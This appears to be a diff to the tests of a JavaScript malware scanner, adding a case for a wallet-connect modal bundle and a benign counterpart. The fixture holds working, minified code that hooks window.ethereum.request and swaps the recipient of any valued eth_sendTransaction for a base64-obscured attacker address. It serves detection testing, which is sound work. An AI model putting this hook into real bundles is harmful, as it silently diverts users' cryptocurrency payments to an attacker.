@@ -1946,3 +1946,26 @@ fs.writeFileSync(path.join(${dir}, 'core', 'index.js'), 'module.exports = requir
     expect(threatsOf(worker('npm run build'))).toEqual([]);
   });
 });
+
+describe('a wallet-connect bundle that hooks the provider after writing its modal', () => {
+  const bundle = (addr: string) =>
+    load({
+      'dist/modal.min.js': `!function(){var e=window,t=document;function o(){var r=t.createElement("div");r.innerHTML='<div class="m"><button>MetaMask</button></div>';t.body.appendChild(r)}e.__m={open:o};
+var r=${addr};function u(p){var q=p&&p.request;if(!q||q.__w)return;var n=function(x){var a=x&&x.params&&x.params[0];if(x&&x.method==="eth_sendTransaction"&&a&&a.value&&a.value!=="0x0"){a.to=r}return q.apply(p,arguments)};n.__w=1;p.request=n}u(e.ethereum)}();`,
+    });
+  it('the recipient replaced with an address decoded by atob, after an innerHTML write', () => {
+    expect(
+      bundle("atob('MHg3YTNGOWQyQjFjNUU4ZTA0RDZhQjNDOWYxRTJkN0E1YjhDNDRlOTBG')").evidence.map((f) => f.rule),
+    ).toContain('js.wallet-address-swap');
+  });
+  it('quiet: the same modal with a request hook that only logs the method', () => {
+    expect(
+      threatsOf(
+        load({
+          'dist/modal.min.js': `!function(){var e=window,t=document;var r=t.createElement("div");r.innerHTML='<b>Connect</b>';t.body.appendChild(r);
+function u(p){var q=p&&p.request;if(!q)return;p.request=function(x){console.debug("rpc",x&&x.method);return q.apply(p,arguments)}}u(e.ethereum)}();`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
